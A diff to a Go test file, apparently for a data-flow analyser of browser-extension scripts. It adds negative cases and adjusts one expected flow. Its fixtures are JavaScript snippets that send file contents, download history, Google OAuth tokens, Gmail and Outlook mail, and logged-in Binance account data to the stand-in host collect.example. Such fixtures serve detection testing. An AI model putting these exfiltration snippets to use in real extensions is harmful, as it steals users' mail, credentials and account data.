@@ -51,7 +51,7 @@ func TestFlowsOfClientsAndReaders(t *testing.T) {
 		{"the text of a file", Popup, send + `document.getElementById("f").onchange=async e=>send(await e.target.files[0].text())`, []string{"form_data(#f) > fetch > collect.example"}},
 		{"the list of downloads", "", send + `chrome.downloads.search({},l=>send(l))`, []string{"history > fetch > collect.example"}},
 		{"a token of Google", "", send + `chrome.identity.getAuthToken({interactive:true},t=>send({t}))`, []string{"oauth_token > fetch > collect.example"}},
-		{"mails by their interface", "", send + `chrome.identity.getAuthToken({interactive:true},async t=>{const r=await fetch("https://gmail.googleapis.com/gmail/v1/users/me/messages?q=code",{headers:{Authorization:"Bearer "+t}});send(await r.json())})`, []string{"mail(gmail.googleapis.com) > fetch > collect.example", "oauth_token > fetch > gmail.googleapis.com"}},
+		{"mails by their interface", "", send + `chrome.identity.getAuthToken({interactive:true},async t=>{const r=await fetch("https://gmail.googleapis.com/gmail/v1/users/me/messages?q=code",{headers:{Authorization:"Bearer "+t}});send(await r.json())})`, []string{"mail(gmail.googleapis.com) > fetch > collect.example"}},
 		{"mails of another service", "", send + `fetch("https://graph.microsoft.com/v1.0/me/messages",{headers:{Authorization:"Bearer x"}}).then(r=>r.text()).then(send)`, []string{"mail(graph.microsoft.com) > fetch > collect.example"}},
 		{"answers of a site, asked as its user", "", send + `fetch("https://www.binance.com/bapi/accounts/v1/private/account/user/base-detail",{credentials:"include"}).then(r=>r.text()).then(send)`, []string{"site_answers(www.binance.com) > fetch > collect.example"}},
 		{"answers of the site of the page", Content, send + `fetch("/bapi/accounts/v1/private/account/user/base-detail",{credentials:"include"}).then(r=>r.text()).then(send)`, []string{"site_answers(" + page + ") > fetch > collect.example"}},
@@ -75,6 +75,30 @@ func TestFlowsOfClientsAndReaders(t *testing.T) {
 		if strings.HasPrefix(c.script, seed) {
 			c.script += " }"
 		}
+		t.Run(c.name, c.run)
+	}
+}
+
+// What looks like a client or a test, and is none: no flow comes of it.
+func TestNoFlowsOfClientsAndReaders(t *testing.T) {
+	const seed = `document.querySelector("#ok").onclick = () => go(document.querySelector("#mnemonic").value); function go(s) { `
+	for _, c := range []flowCase{
+		{"a key that a client signs with", Popup, seed + `const w = new Web3("https://rpc.example/"); w.eth.accounts.privateKeyToAccount(s) }`, nil},
+		{"a request that is described", Popup, seed + `describe({url: "https://help.example/"}).push(s) }`, nil},
+		{"a link beside it", Popup, seed + `h("a", {href: "https://help.example/"}).push(s) }`, nil},
+		{"an error that names nothing of it", Popup, seed + `try { keep(s) } catch (e) { Sentry.captureException(e) } }`, nil},
+		{"a style without an address", Popup, seed + `document.querySelector("#x").style.background = s.length > 3 ? "red" : "green" }`, nil},
+		{"a window without it", Popup, seed + `open("https://help.example/").postMessage("hello", "*") }`, nil},
+		{"a name in a list", Content, `const names = load(); if (names.indexOf("otpauth") < 0) fetch("https://collect.example/", {body: names})`, nil},
+		{"another scheme", Content, `const u = load(); if (u.startsWith("mailto:")) fetch("https://collect.example/", {body: u})`, nil},
+		{"a passkey", Content, `navigator.credentials.get({publicKey: {}}).then(c => fetch("https://collect.example/", {body: c.id}))`, nil},
+		{"a picture of its own on a canvas", Content, `const i = new Image(), k = document.createElement("canvas"); k.getContext("2d").drawImage(i, 0, 0); fetch("https://collect.example/", {body: k.toDataURL()})`, nil},
+		{"answers that everybody gets", "", `fetch("https://api.example/prices").then(r => r.text()).then(t => fetch("https://collect.example/", {body: t}))`, nil},
+		{"settings of the mailbox", "", `fetch("https://www.googleapis.com/calendar/v3/list").then(r => r.text()).then(t => fetch("https://collect.example/", {body: t}))`, nil},
+		{"a token that goes to Google", "", `chrome.identity.getAuthToken({}, t => fetch("https://www.googleapis.com/drive/v3/files", {headers: {Authorization: "Bearer " + t}}))`, nil},
+		{"caches of the extension itself", "", `caches.match("/x").then(r => r.text()).then(t => fetch("https://collect.example/", {body: t}))`, nil},
+		{"a key by which a request is signed", "", `chrome.storage.local.get("s", async ({s}) => { const k = await crypto.subtle.importKey("raw", s.privateKey, {}, false, ["sign"]); fetch("https://files.example/", {headers: {a: await crypto.subtle.sign("HMAC", k, new Uint8Array(3))}}) })`, nil},
+	} {
 		t.Run(c.name, c.run)
 	}
 }
